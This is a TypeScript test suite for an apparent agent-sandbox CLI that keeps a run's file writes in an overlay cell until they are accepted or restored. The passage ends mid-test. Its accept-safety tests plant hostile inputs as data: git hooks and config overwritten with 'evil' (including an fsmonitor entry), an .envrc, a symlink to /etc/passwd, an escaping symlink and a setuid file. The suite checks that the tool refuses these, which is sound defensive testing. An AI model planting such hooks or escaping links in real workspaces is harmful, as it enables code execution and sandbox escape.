import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import {
  agentcell,
  inCell,
  makeSandbox,
  startCli,
  waitFor,
  type CliResult,
  type Sandbox,
  ac,
  acJson,
  cellDirOf,
  snapshot,
} from './helpers.js';

/**
 * Workspace transactions through the real CLI on real bwrap + overlayfs: a run's
 * writes stay in the cell until `accept`; `restore`, `checkpoint`, `fork` manage its
 * layers; every run and decision is a signed receipt in the cell's chain. Each refusal
 * sits beside the same operation succeeding, so a harness that does nothing fails.
 * Runs as root and as an unprivileged user.
 */

// ---------------------------------------------------------------- helpers

/** `gc --json` without its `runtime` list (the shared /dev/shm dir holds other tests' leftovers). */
function gcJson(sb: Sandbox, ...args: string[]): { cells: string[]; purged: boolean; busy: string[] } {
  const { runtime, ...rest } = acJson<{ cells: string[]; purged: boolean; busy: string[]; runtime: unknown }>(
    sb,
    'gc',
    ...args,
    '--json',
  );
  assert.ok(Array.isArray(runtime));
  return rest;
}

interface Change {
  path: string;
  change: 'added' | 'modified' | 'deleted';
  kind: 'file' | 'dir' | 'symlink' | 'other';
  flagged?: { tier: 'unsafe' | 'refused' | 'conflict' | 'review'; reason: string };
}

interface ReceiptRow {
  id: string;
  seq: number;
  kind: 'run' | 'decision';
  command: string[];
  status: 'completed' | 'interrupted';
  exitCode: number | null;
  decision: 'pending' | 'accepted' | 'restored' | 'forked';
  changes: { added: number; modified: number; deleted: number };
}

interface Verification {
  ok: boolean;
  checked: number;
  problems: { id: string; seq: number; problem: string }[];
}

/** A run in the cell that must exit `code`. */
function runOk(sb: Sandbox, script: string, extra: string[] = [], code = 0): CliResult {
  const r = inCell(sb, script, extra);
  assert.equal(r.status, code, `run exited ${String(r.status)}; stderr: ${r.stderr}`);
  return r;
}

const diff = (sb: Sandbox, ...args: string[]): Change[] => acJson<Change[]>(sb, 'diff', '--json', ...args);
const receipts = (sb: Sandbox, ...args: string[]): ReceiptRow[] =>
  acJson<ReceiptRow[]>(sb, 'receipt', 'list', '--json', ...args);

function verify(sb: Sandbox, ...args: string[]): { status: number | null; result: Verification; stderr: string } {
  const r = ac(sb, 'receipt', 'verify', '--json', ...args);
  return { status: r.status, result: JSON.parse(r.stdout) as Verification, stderr: r.stderr };
}

function assertVerifies(sb: Sandbox, count: number, ...args: string[]): void {
  const v = verify(sb, ...args);
  assert.deepEqual(v.result, { ok: true, checked: count, problems: [] });
  assert.equal(v.status, 0);
}

/** Changes in diff's order (sorted by path), from compact tuples. */
function changes(list: [string, Change['change'], Change['kind'], Change['flagged']?][]): Change[] {
  return list
    .map(([path, change, kind, flagged]) => ({ path, change, kind, ...(flagged ? { flagged } : {}) }))
    .sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
}

const cellNameOf = (sb: Sandbox): string => cellDirOf(sb).split('/').pop()!;

/** What a tree holds, by path: file content, `dir`, `-> target` or `fifo`; `.git` left out unless asked. */
function contents(root: string, { withGit = false } = {}): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string): void => {
    for (const name of readdirSync(rel ? join(root, rel) : root).sort()) {
      const path = rel ? `${rel}/${name}` : name;
      if (path === '.git' && !withGit) continue;
      const st = lstatSync(join(root, path));
      if (st.isDirectory()) {
        out[path] = 'dir';
        walk(path);
      } else if (st.isSymbolicLink()) out[path] = `-> ${readlinkSync(join(root, path))}`;
      else if (st.isFile()) out[path] = readFileSync(join(root, path), 'utf8');
      else out[path] = st.isFIFO() ? 'fifo' : 'special';
    }
  };
  walk('');
  return out;
}

function withSandbox(files: Record<string, string>, body: (sb: Sandbox) => void | Promise<void>): () => Promise<void> {
  return async () => {
    const sb = makeSandbox(files);
    try {
      await body(sb);
    } finally {
      // Layers can hold mode-000 dirs (overlayfs work/work); make them removable first.
      chmodTree(sb.root);
      sb.cleanup();
    }
  };
}

function chmodTree(root: string): void {
  const walk = (dir: string): void => {
    try {
      chmodSync(dir, 0o700);
      for (const entry of readdirSync(dir, { withFileTypes: true }))
        if (entry.isDirectory()) walk(join(dir, entry.name));
    } catch {
      // not ours, or gone
    }
  };
  walk(root);
}

// ---------------------------------------------------------------- 1. run → diff → accept

describe('a run is a transaction: invisible until accepted', () => {
  const FILES = {
    'keep.txt': 'keep\n',
    'mod.txt': 'mod\n',
    'del.txt': 'delete me\n',
    'tree/a': 'a\n',
    'tree/sub/b': 'b\n',
  };

  it(
    'add, modify, delete and rm -rf + recreate stay in the cell; diff lists exactly them; accept applies them',
    withSandbox(FILES, (sb) => {
      const pristine = snapshot(sb.workspace);
      runOk(
        sb,
        [
          'set -e',
          'echo new > added.txt',
          'echo more >> mod.txt',
          'rm del.txt',
          'rm -rf tree && mkdir tree && echo fresh > tree/fresh',
          'mkdir newdir && echo n > newdir/n',
          // the cell sees its own writes
          'cat mod.txt added.txt tree/fresh',
          'test ! -e del.txt && test ! -e tree/a',
        ].join('\n'),
      );
      assert.deepEqual(snapshot(sb.workspace), pristine, 'the host workspace is byte-for-byte unchanged');

      const expected = changes([
        ['added.txt', 'added', 'file'],
        ['del.txt', 'deleted', 'file'],
        ['mod.txt', 'modified', 'file'],
        ['newdir', 'added', 'dir'],
        ['newdir/n', 'added', 'file'],
        ['tree/a', 'deleted', 'file'],
        ['tree/fresh', 'added', 'file'],
        ['tree/sub', 'deleted', 'dir'],
        ['tree/sub/b', 'deleted', 'file'],
      ]);
      assert.deepEqual(diff(sb), expected);
      const text = ac(sb, 'diff');
      assert.equal(text.status, 0);
      assert.equal(
        text.stdout,
        'A added.txt\nD del.txt\nM mod.txt\nA newdir/\nA newdir/n\nD tree/a\nA tree/fresh\nD tree/sub/\nD tree/sub/b\n',
      );

      const [run] = receipts(sb);
      assert.equal(run?.kind, 'run');
      assert.equal(run?.decision, 'pending');
      assert.deepEqual(run?.changes, { added: 4, modified: 1, deleted: 4 });

      const report = acJson<{ applied: Change[]; refused: unknown[]; dryRun: boolean; receipt: { id: string } }>(
        sb,
        'accept',
        '--json',
      );
      assert.equal(report.dryRun, false);
      assert.deepEqual(report.refused, []);
      assert.deepEqual(
        [...report.applied].sort((a, b) => (a.path < b.path ? -1 : 1)),
        expected.map(({ path, change, kind }) => ({ path, change, kind })),
      );
      assert.deepEqual(contents(sb.workspace), {
        'added.txt': 'new\n',
        'keep.txt': 'keep\n',
        'mod.txt': 'mod\nmore\n',
        newdir: 'dir',
        'newdir/n': 'n\n',
        tree: 'dir',
        'tree/fresh': 'fresh\n',
      });
      assert.deepEqual(diff(sb), [], 'nothing pending after accept');
      assert.match(ac(sb, 'diff').stderr, /no pending changes/);

      const list = receipts(sb);
      assert.deepEqual(
        list.map((r) => [r.seq, r.kind, r.decision, r.exitCode, r.status]),
        [
          [1, 'run', 'accepted', 0, 'completed'],
          [2, 'decision', 'accepted', 0, 'completed'],
        ],
      );
      assert.equal(list[1]?.id, report.receipt.id);
      assert.deepEqual(list[1]?.command, ['agentcell', 'accept', '--json']);
      assert.deepEqual(list[1]?.changes, { added: 4, modified: 1, deleted: 4 });
      assertVerifies(sb, 2);
      const human = ac(sb, 'receipt', 'verify');
      assert.equal(human.status, 0);
      assert.match(human.stderr, /ok: 2 receipt\(s\) in cell work-[0-9a-f]{6} verify/);

      // The accepted state is the new base: a run sees it and changes nothing.
      assert.equal(runOk(sb, 'cat mod.txt tree/fresh; ls tree').stdout, 'mod\nmore\nfresh\nfresh\n');
      assert.deepEqual(diff(sb), []);
    }),
  );
});

// ---------------------------------------------------------------- 2. restore, --restore-on-fail, --accept-on-success

describe('restore and the automatic decisions', () => {
  const FILES = { 'a.txt': 'a\n', 'b.txt': 'b\n' };

  it(
    'restore drops everything: host untouched, diff empty, the cell back to the workspace',
    withSandbox(FILES, (sb) => {
      const pristine = snapshot(sb.workspace);
      runOk(sb, 'echo more >> a.txt; rm b.txt; echo c > c.txt');
      assert.equal(diff(sb).length, 3, 'positive control: the run left changes');
      const planned = acJson<{ changes: unknown; paths: Change[] }>(sb, 'restore', '--dry-run', '--json');
      assert.deepEqual(
        planned.paths,
        changes([
          ['a.txt', 'modified', 'file'],
          ['b.txt', 'deleted', 'file'],
          ['c.txt', 'added', 'file'],
        ]),
      );
      const report = acJson<{
        changes: unknown;
        paths?: unknown;
        dropped: unknown[];
        receipt: { decision: string; changes: unknown };
      }>(sb, 'restore', '--json');
      // Counted when the run froze its layer, not diffed again.
      assert.deepEqual(report.changes, { added: 1, modified: 1, deleted: 1 });
      assert.deepEqual(planned.changes, report.changes);
      assert.equal(report.paths, undefined);
      assert.equal(report.dropped.length, 1);
      assert.equal(report.receipt.decision, 'restored');
      assert.deepEqual(report.receipt.changes, report.changes);
      assert.deepEqual(diff(sb), []);
      assert.deepEqual(snapshot(sb.workspace), pristine);
      assert.equal(runOk(sb, 'cat a.txt b.txt; test ! -e c.txt').stdout, 'a\nb\n', 'the cell sees the workspace again');
      assert.deepEqual(
        receipts(sb).map((r) => [r.kind, r.decision]),
        [
          ['run', 'restored'],
          ['decision', 'restored'],
          ['run', 'pending'],
        ],
      );
      assertVerifies(sb, 3);
    }),
  );

  it(
    'restore after a partial accept counts only what is still pending (the recorded counts no longer hold)',
    withSandbox(FILES, (sb) => {
      runOk(sb, 'echo 1 > one.txt; echo 2 > two.txt; echo more >> a.txt');
      acJson(sb, 'accept', 'one.txt', '--json');
      const r = acJson<{ changes: unknown; receipt: { changes: unknown } }>(sb, 'restore', '--json');
      assert.deepEqual(r.changes, { added: 1, modified: 1, deleted: 0 });
      assert.deepEqual(r.receipt.changes, r.changes);
    }),
  );

  it(
    '--restore-on-fail: a failing run leaves nothing and records restored; a succeeding one keeps its changes',
    withSandbox(FILES, (sb) => {
      const pristine = snapshot(sb.workspace);
      const failed = runOk(sb, 'echo c > c.txt; echo more >> a.txt; exit 3', ['--restore-on-fail'], 3);
      assert.match(failed.stderr, /exit 3: restored, 2 change\(s\) dropped/);
      assert.deepEqual(diff(sb), []);
      assert.deepEqual(snapshot(sb.workspace), pristine);
      const list = receipts(sb);
      assert.deepEqual(
        list.map((r) => [r.kind, r.exitCode, r.decision]),
        [
          ['run', 3, 'restored'],
          ['decision', 0, 'restored'],
        ],
      );
      assert.deepEqual(list[0]?.changes, { added: 1, modified: 1, deleted: 0 });
      assert.deepEqual(list[1]?.command.slice(0, 3), ['agentcell', 'run', '--restore-on-fail']);

      // Positive counterpart: exit 0 keeps the run's changes pending.
      runOk(sb, 'echo d > d.txt', ['--restore-on-fail']);
      assert.deepEqual(diff(sb), changes([['d.txt', 'added', 'file']]));
      assert.equal(receipts(sb).at(-1)?.decision, 'pending');
      assert.deepEqual(snapshot(sb.workspace), pristine);
      assertVerifies(sb, 3);
    }),
  );

  it(
    '--accept-on-success applies on exit 0 and records accepted; on failure the changes stay pending',
    withSandbox(FILES, (sb) => {
      const pristine = snapshot(sb.workspace);
      // Negative first: a failing run is not accepted.
      runOk(sb, 'echo x > x.txt; exit 1', ['--accept-on-success'], 1);
      assert.deepEqual(snapshot(sb.workspace), pristine);
      assert.deepEqual(diff(sb), changes([['x.txt', 'added', 'file']]));
      runOk(sb, 'true', ['--restore-on-fail']); // exit 0: keeps x.txt
      ac(sb, 'restore');
      assert.deepEqual(diff(sb), []);

      const ok = runOk(sb, 'echo d > d.txt; echo more >> a.txt', ['--accept-on-success']);
      assert.match(ok.stderr, /accepted 2 change\(s\)/);
      assert.deepEqual(contents(sb.workspace), { 'a.txt': 'a\nmore\n', 'b.txt': 'b\n', 'd.txt': 'd\n' });
      assert.deepEqual(diff(sb), []);
      const last = receipts(sb).slice(-2);
      assert.deepEqual(
        last.map((r) => [r.kind, r.exitCode, r.decision]),
        [
          ['run', 0, 'accepted'],
          ['decision', 0, 'accepted'],
        ],
      );
      assert.deepEqual(last[1]?.changes, { added: 1, modified: 1, deleted: 0 });
      assertVerifies(sb, receipts(sb).length);
    }),
  );

  it(
    // Bug: restoreCell() without `to` drops every layer, not the failing run's.
    '--restore-on-fail drops only the failing run’s changes, not earlier pending runs’',
    withSandbox(FILES, (sb) => {
      runOk(sb, 'echo keep > keep.txt');
      runOk(sb, 'echo c > c.txt; exit 3', ['--restore-on-fail'], 3);
      assert.deepEqual(diff(sb), changes([['keep.txt', 'added', 'file']]));
    }),
  );
});

// ---------------------------------------------------------------- 3. checkpoints

describe('checkpoint and restore --to', () => {
  it(
    'restore --to a keeps exactly the changes made before checkpoint a',
    withSandbox({ 'a.txt': 'a\n', 'b.txt': 'b\n' }, (sb) => {
      const pristine = snapshot(sb.workspace);
      const none = ac(sb, 'checkpoint', '--name', 'early');
      assert.equal(none.status, 2, 'no cell yet');
      assert.match(none.stderr, /no cell work-[0-9a-f]{6} yet/);

      runOk(sb, 'echo one > one.txt; echo a2 >> a.txt');
      const cp = acJson<{ layer: { id: string; name: string; seq: number } }>(
        sb,
        'checkpoint',
        '--name',
        'a',
        '--json',
      );
      assert.equal(cp.layer.name, 'a');
      const dup = ac(sb, 'checkpoint', '--name', 'a');
      assert.equal(dup.status, 2);
      assert.match(dup.stderr, /checkpoint named "a" already exists/);
      const beforeCheckpoint = diff(sb);
      assert.deepEqual(
        beforeCheckpoint,
        changes([
          ['a.txt', 'modified', 'file'],
          ['one.txt', 'added', 'file'],
        ]),
      );

      runOk(sb, 'echo two > two.txt; rm b.txt; echo a3 >> a.txt; rm one.txt');
      assert.deepEqual(
        diff(sb),
        changes([
          ['a.txt', 'modified', 'file'],
          ['b.txt', 'deleted', 'file'],
          ['two.txt', 'added', 'file'],
        ]),
      );

      const bad = ac(sb, 'restore', '--to', 'nope');
      assert.equal(bad.status, 2);
      assert.match(bad.stderr, /no checkpoint "nope"/);
      assert.equal(diff(sb).length, 3, 'a refused restore drops nothing');

      const restored = acJson<{ receipt: { checkpoint: { after: string }; decision: string } }>(
        sb,
        'restore',
        '--to',
        'a',
        '--json',
      );
      assert.equal(restored.receipt.decision, 'restored');
      assert.equal(restored.receipt.checkpoint.after, cp.layer.id);
      assert.deepEqual(diff(sb), beforeCheckpoint);
      assert.equal(
        runOk(sb, 'cat a.txt one.txt b.txt; test ! -e two.txt').stdout,
        'a\na2\none\nb\n',
        'the cell is back at the checkpoint',
      );
      assert.deepEqual(snapshot(sb.workspace), pristine);

      const show = acJson<{ checkpoints: { id: string; name?: string }[] }>(
        sb,
        'cell',
        'show',
        cellNameOf(sb),
        '--json',
      );
      assert.ok(show.checkpoints.some((c) => c.id === cp.layer.id && c.name === 'a'));
      assertVerifies(sb, receipts(sb).length);
    }),
  );

  it(
    'restore --to reports (and receipts) a path changed on both sides of the checkpoint as dropped',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      runOk(sb, 'echo a2 >> a.txt');
      ac(sb, 'checkpoint', '--name', 'a');
      runOk(sb, 'echo a3 >> a.txt');
      const planned = acJson<{ paths: Change[] }>(sb, 'restore', '--to', 'a', '--dry-run', '--json');
      assert.deepEqual(planned.paths, changes([['a.txt', 'modified', 'file']]));
      const r = acJson<{ changes: unknown; receipt: { changes: unknown } }>(sb, 'restore', '--to', 'a', '--json');
      assert.deepEqual(r.changes, { added: 0, modified: 1, deleted: 0 });
      assert.deepEqual(r.receipt.changes, r.changes);
    }),
  );

  it(
    'restore --to reports a deletion as dropped only when no kept layer deletes it too',
    withSandbox({ 'd/x.txt': 'x\n', 'keep.txt': 'k\n' }, (sb) => {
      runOk(sb, 'rm -r d && mkdir d && echo z > d/z.txt'); // d re-made: opaque, x.txt hidden
      ac(sb, 'checkpoint', '--name', 'a');
      runOk(sb, 'rm -r d && mkdir d && echo y > d/y.txt'); // again: x.txt hidden by both layers
      assert.deepEqual(
        diff(sb),
        changes([
          ['d/x.txt', 'deleted', 'file'],
          ['d/y.txt', 'added', 'file'],
        ]),
      );
      const r = acJson<{ paths: Change[] }>(sb, 'restore', '--to', 'a', '--dry-run', '--json');
      assert.deepEqual(r.paths, changes([['d/y.txt', 'added', 'file']]), 'd/x.txt stays deleted by layer a');
      acJson(sb, 'restore', '--to', 'a', '--json');
      assert.deepEqual(
        diff(sb),
        changes([
          ['d/x.txt', 'deleted', 'file'],
          ['d/z.txt', 'added', 'file'],
        ]),
      );
    }),
  );

  it(
    'restore --to N resolves N the same way for the report, the receipt and the actual restore',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      runOk(sb, 'echo 1 > one.txt'); // layer seq 1
      runOk(sb, 'echo 2 > two.txt'); // layer seq 2
      runOk(sb, 'echo 3 > three.txt'); // layer seq 3
      ac(sb, 'checkpoint', '--name', '2'); // layer seq 4, named "2"
      runOk(sb, 'echo 4 > four.txt'); // layer seq 5
      const planned = acJson<{ paths: Change[] }>(sb, 'restore', '--to', '2', '--dry-run', '--json');
      acJson(sb, 'restore', '--to', '2', '--json');
      const remaining = diff(sb).map((c) => c.path);
      const dropped = planned.paths.map((c) => c.path);
      for (const path of dropped) assert.ok(!remaining.includes(path), `${path} reported dropped but still pending`);
    }),
  );
});

// ---------------------------------------------------------------- 4. fork

describe('fork', () => {
  it(
    'copies pending changes into a new cell; the two cells then diverge independently',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      const pristine = snapshot(sb.workspace);
      const early = ac(sb, 'fork', 'b');
      assert.equal(early.status, 2, 'nothing to fork before the cell exists');

      runOk(sb, 'echo one > one.txt; echo a2 >> a.txt');
      const pending = diff(sb);
      assert.equal(pending.length, 2);
      const source = cellNameOf(sb);
      const forked = acJson<{ cell: string; layers: number; dryRun: boolean }>(sb, 'fork', 'b', '--json');
      assert.deepEqual([forked.cell, forked.layers, forked.dryRun], ['b', 1, false]);
      assert.deepEqual(diff(sb, '--cell', 'b'), pending, 'the fork has the same pending changes');
      assert.deepEqual(diff(sb), pending, 'the source keeps its own');
      const again = ac(sb, 'fork', 'b');
      assert.equal(again.status, 2);
      assert.match(again.stderr, /cell b already exists/);

      const sourceState = snapshot(cellDirOf(sb, source));
      runOk(sb, 'echo inb > b-only.txt; rm one.txt; echo b >> a.txt', ['--cell', 'b']);
      assert.deepEqual(
        diff(sb, '--cell', 'b'),
        changes([
          ['a.txt', 'modified', 'file'],
          ['b-only.txt', 'added', 'file'],
        ]),
      );
      assert.deepEqual(diff(sb), pending, "b's run does not touch a");
      assert.deepEqual(snapshot(cellDirOf(sb, source)), sourceState, "a's state dir is unchanged by b's run");
      assert.equal(runOk(sb, 'cat a.txt one.txt; test ! -e b-only.txt').stdout, 'a\na2\none\n');

      const show = acJson<{ forkedFrom: string; workspace: string; pendingChanges: number }>(
        sb,
        'cell',
        'show',
        'b',
        '--json',
      );
      assert.equal(show.forkedFrom, source);
      assert.equal(show.workspace, sb.workspace);
      assert.equal(show.pendingChanges, 2);
      assert.deepEqual(
        receipts(sb).map((r) => [r.kind, r.decision]),
        [
          ['run', 'forked'],
          ['decision', 'forked'],
          ['run', 'pending'],
        ],
      );
      assert.deepEqual(
        receipts(sb, '--cell', 'b').map((r) => [r.seq, r.kind, r.decision]),
        [[1, 'run', 'pending']],
      );

      // Accepting b changes the host; a still holds its own changes, now against the new host,
      // where its change to a.txt conflicts with b's.
      assert.deepEqual(snapshot(sb.workspace), pristine);
      acJson(sb, 'accept', '--cell', 'b', '--json');
      assert.deepEqual(contents(sb.workspace), { 'a.txt': 'a\na2\nb\n', 'b-only.txt': 'inb\n' });
      assert.deepEqual(diff(sb, '--cell', 'b'), []);
      assert.deepEqual(
        diff(sb),
        changes([
          [
            'a.txt',
            'modified',
            'file',
            { tier: 'conflict', reason: 'the host changed this path since the run; accept --force to overwrite it' },
          ],
          ['one.txt', 'added', 'file'],
        ]),
      );
      assertVerifies(sb, 3);
      assertVerifies(sb, 2, '--cell', 'b');
    }),
  );

  it(
    'a run forked then accepted reads as accepted, not forked',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      runOk(sb, 'echo one > one.txt');
      acJson(sb, 'fork', 'b', '--json');
      acJson(sb, 'accept', '--json');
      assert.equal(receipts(sb)[0]?.decision, 'accepted');
    }),
  );
});

// ---------------------------------------------------------------- 5. accept safety

describe('accept safety through real cells', () => {
  const control = (why: string): Change['flagged'] => ({
    tier: 'refused',
    reason: `control-plane file (${why}); accept with --force after review`,
  });
  const GIT_CONTROL: Change['flagged'] = {
    tier: 'refused',
    reason:
      'git control plane (.git is data only for objects, refs, logs and the index); accept with --force after review',
  };
  const unsafe = (reason: string): Change['flagged'] => ({ tier: 'unsafe', reason });

  it(
    'control-plane files, escaping symlinks, fifos and setuid files: flagged, refused whole, --force applies only what is safe',
    withSandbox(
      { 'a.txt': 'a\n', 'sub/keep': 'k\n', '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n', '.git/config': '[core]\n' },
      (sb) => {
        const r = runOk(
          sb,
          [
            'echo evil > .git/hooks/pre-commit && echo HOOK-MODIFIED',
            'echo evil > .git/hooks/post-checkout && echo HOOK-ADDED',
            'echo "[core] fsmonitor = evil" >> .git/config && echo CONFIG-MODIFIED',
            'echo described > .git/description && echo GIT-OTHER-OK', // positive control: .git itself is writable
            'echo "export EVIL=1" > .envrc',
            'printf "[env]\\nX = \\"1\\"\\n" > agentcell.toml',
            'ln -s /etc/passwd pw',
            'ln -s ../../outside sub/esc',
            'ln -s a.txt okl',
            'mkfifo ff',
            'echo "#!/bin/sh" > suid && chmod 4755 suid && test -u suid && echo SUID-SET',
            'echo plain > plain.txt',
            'exit 0',
          ].join('\n'),
        );
        assert.equal(r.stdout, 'GIT-OTHER-OK\nSUID-SET\n', 'only the hooks and git config were refused in the cell');
        assert.match(r.stderr, /\.git\/hooks\/pre-commit: Read-only file system/);
        assert.match(r.stderr, /\.git\/hooks\/post-checkout: Read-only file system/);

        const expected = changes([
          ['.envrc', 'added', 'file', control('direnv runs it on cd')],
          ['.git/description', 'added', 'file'],
          ['agentcell.toml', 'added', 'file', control('agentcell reads its policy from it')],
          ['ff', 'added', 'other', unsafe('a fifo cannot be accepted')],
          ['okl', 'added', 'symlink'],
          ['plain.txt', 'added', 'file'],
          ['pw', 'added', 'symlink', unsafe('symlink to an absolute path (/etc/passwd)')],
          ['sub/esc', 'added', 'symlink', unsafe('symlink pointing outside the workspace (../../outside)')],
          // Not flagged: accept drops the setuid bit instead (asserted below).
          ['suid', 'added', 'file'],
        ]);
        assert.deepEqual(diff(sb), expected);
        const human = ac(sb, 'diff').stdout;
        assert.match(human, /^A pw {4}! symlink to an absolute path \(\/etc\/passwd\)$/m);

        const hostBefore = snapshot(sb.workspace);
        const refused = ac(sb, 'accept');
        assert.equal(refused.status, 2);
        assert.match(refused.stderr, /accept refused, nothing applied:/);
        for (const path of ['.envrc', 'agentcell.toml', 'ff', 'pw', 'sub/esc'])
          assert.match(refused.stderr, new RegExp(`^  ${path.replace('.', '\\.')}: `, 'm'), path);
        const refusedJson = ac(sb, 'accept', '--json');
        assert.equal(refusedJson.status, 2);
        assert.equal((JSON.parse(refusedJson.stdout) as { error: { code: string } }).error.code, 'ACCEPT_REFUSED');
        assert.deepEqual(snapshot(sb.workspace), hostBefore, 'a refused accept applies nothing');
        assert.deepEqual(diff(sb), expected, 'and drops nothing');
        assert.deepEqual(
          receipts(sb).map((x) => x.kind),
          ['run'],
          'and records no decision',
        );

        const plan = acJson<{ applied: Change[]; refused: { path: string }[]; dryRun: boolean }>(
          sb,
          'accept',
          '--force',
          '--dry-run',
          '--json',
        );
        assert.equal(plan.dryRun, true);
        assert.deepEqual(snapshot(sb.workspace), hostBefore);

        const forced = acJson<{ applied: Change[]; refused: { path: string; reason: string }[] }>(
          sb,
          'accept',
          '--force',
          '--json',
        );
        const appliedPaths = forced.applied.map((c) => c.path).sort();
        assert.deepEqual(appliedPaths, ['.envrc', '.git/description', 'agentcell.toml', 'okl', 'plain.txt', 'suid']);
        assert.deepEqual(plan.applied.map((c) => c.path).sort(), appliedPaths, 'the dry run planned exactly this');
        assert.deepEqual(forced.refused.map((c) => c.path).sort(), ['ff', 'pw', 'sub/esc']);

        assert.deepEqual(contents(sb.workspace, { withGit: true }), {
          '.envrc': 'export EVIL=1\n',
          '.git': 'dir',
          '.git/config': '[core]\n',
          '.git/description': 'described\n',
          '.git/hooks': 'dir',
          '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
          'a.txt': 'a\n',
          'agentcell.toml': '[env]\nX = "1"\n',
          okl: '-> a.txt',
          'plain.txt': 'plain\n',
          sub: 'dir',
          'sub/keep': 'k\n',
          suid: '#!/bin/sh\n',
        });
        assert.equal(lstatSync(join(sb.workspace, 'suid')).mode & 0o7777, 0o755, 'the setuid bit is dropped');
        assert.equal(existsSync(join(sb.root, 'outside')), false);
        assert.deepEqual(diff(sb), [], 'what was never applied is dropped with the cell’s layers');
        assert.deepEqual(
          receipts(sb).map((x) => [x.kind, x.decision]),
          [
            ['run', 'accepted'],
            ['decision', 'accepted'],
          ],
        );
        assertVerifies(sb, 2);
      },
    ),
  );

  it(
    'a git hook the workspace does not have yet can be written in the cell, but accept flags and refuses it',
    withSandbox({ 'a.txt': 'a\n', '.git/config': '[core]\n' }, (sb) => {
      runOk(sb, 'mkdir .git/hooks && echo evil > .git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit');
      assert.deepEqual(
        diff(sb),
        changes([
          ['.git/hooks', 'added', 'dir', GIT_CONTROL],
          ['.git/hooks/pre-commit', 'added', 'file', GIT_CONTROL],
        ]),
      );
      const before = snapshot(sb.workspace);
      assert.equal(ac(sb, 'accept').status, 2);
      assert.deepEqual(snapshot(sb.workspace), before);
      assert.equal(existsSync(join(sb.workspace, '.git/hooks')), false);
      acJson(sb, 'accept', '--force', '--json');
      assert.equal(readFileSync(join(sb.workspace, '.git/hooks/pre-commit'), 'utf8'), 'evil\n');
    }),
  );

  it(
    'submodule hooks and config (.git/modules/*/hooks, .git/modules/*/config) are control plane too',
    withSandbox({ 'a.txt': 'a\n', '.git/config': '[core]\n', '.git/modules/sub/config': '[core]\n' }, (sb) => {
      runOk(sb, 'mkdir -p .git/modules/sub/hooks && echo evil > .git/modules/sub/hooks/post-checkout');
      assert.equal(ac(sb, 'accept').status, 2);
      assert.equal(existsSync(join(sb.workspace, '.git/modules/sub/hooks/post-checkout')), false);
    }),
  );
});

// ---------------------------------------------------------------- 6. failed runs

describe('accept never overwrites what the host changed since the run', () => {
  const CHANGED = 'the host changed this path since the run; accept --force to overwrite it';

  it(
    'a host edit after the run: accept refuses naming the path and applies nothing; --force applies',
    withSandbox({ 'a.txt': 'a\n', 'b.txt': 'b\n' }, (sb) => {
      runOk(sb, 'echo cell > a.txt; echo cell > b.txt; echo new > c.txt');
      // Control: an untouched host accepts (checked on a fork, so this cell keeps its changes).
      acJson(sb, 'fork', 'control', '--json');
      writeFileSync(join(sb.workspace, 'a.txt'), 'host edit\n');
      const flagged = diff(sb).find((c) => c.path === 'a.txt');
      assert.deepEqual(flagged?.flagged, { tier: 'conflict', reason: CHANGED });
      assert.match(ac(sb, 'diff').stdout, /^M a\.txt {4}! the host changed this path since the run/m);
      const before = snapshot(sb.workspace);
      const refused = ac(sb, 'accept', '--json');
      assert.equal(refused.status, 2);
      const error = (JSON.parse(refused.stdout) as { error: { code: string; message: string } }).error;
      assert.equal(error.code, 'ACCEPT_CONFLICT');
      assert.match(error.message, /^ {2}a\.txt: the host changed this path since the run/m);
      assert.doesNotMatch(error.message, /b\.txt|c\.txt/);
      assert.equal(ac(sb, 'accept', '--dry-run').status, 2, 'the dry run says so too');
      assert.deepEqual(snapshot(sb.workspace), before, 'nothing applied, not even the paths without conflict');
      const forced = acJson<{ flagged: { path: string; tier: string }[] }>(sb, 'accept', '--force', '--json');
      assert.deepEqual(forced.flagged, [{ path: 'a.txt', tier: 'conflict', reason: CHANGED }]);
      assert.deepEqual(contents(sb.workspace), { 'a.txt': 'cell\n', 'b.txt': 'cell\n', 'c.txt': 'new\n' });
    }),
  );

  it(
    'two cells change one file: the second accept is refused; a host file created since an added path is a conflict too',
    withSandbox({ 'shared.txt': 'v0\n' }, (sb) => {
      runOk(sb, 'echo one > shared.txt');
      runOk(sb, 'echo two > shared.txt; echo two > new.txt', ['--cell', 'two']);
      acJson(sb, 'accept', '--json');
      assert.equal(readFileSync(join(sb.workspace, 'shared.txt'), 'utf8'), 'one\n');
      writeFileSync(join(sb.workspace, 'new.txt'), 'host\n');
      const second = ac(sb, 'accept', '--cell', 'two');
      assert.equal(second.status, 2);
      assert.match(second.stderr, /^ {2}shared\.txt: the host changed this path since the run/m);
      assert.match(second.stderr, /^ {2}new\.txt: the host created this path since the run/m);
      assert.equal(readFileSync(join(sb.workspace, 'shared.txt'), 'utf8'), 'one\n', 'the first accept stands');
      assert.equal(readFileSync(join(sb.workspace, 'new.txt'), 'utf8'), 'host\n');
    }),
  );

  it(
    'a host edit during the run is a conflict, though the file looked the same at the end of the run',
    withSandbox({ 'a.txt': 'a\n' }, async (sb) => {
      // The run changes a.txt, then waits while the host edits it.
      const child = startCli(['run', '--', 'sh', '-c', 'echo cell > a.txt; sleep 3'], {
        cwd: sb.workspace,
        env: sb.env,
      });
      const exited = new Promise((r) => child.once('exit', r));
      const changedInCell = (): boolean => {
        try {
          return existsSync(join(cellDirOf(sb), 'upper', 'a.txt'));
        } catch {
          return false; // no cell yet
        }
      };
      await waitFor('the run to change a.txt', changedInCell);
      writeFileSync(join(sb.workspace, 'a.txt'), 'host\n');
      assert.equal(await exited, 0);
      const flagged = diff(sb).find((c) => c.path === 'a.txt');
      assert.deepEqual(flagged?.flagged, {
        tier: 'conflict',
        reason: 'the host changed this path while the run ran; accept --force to overwrite it',
      });
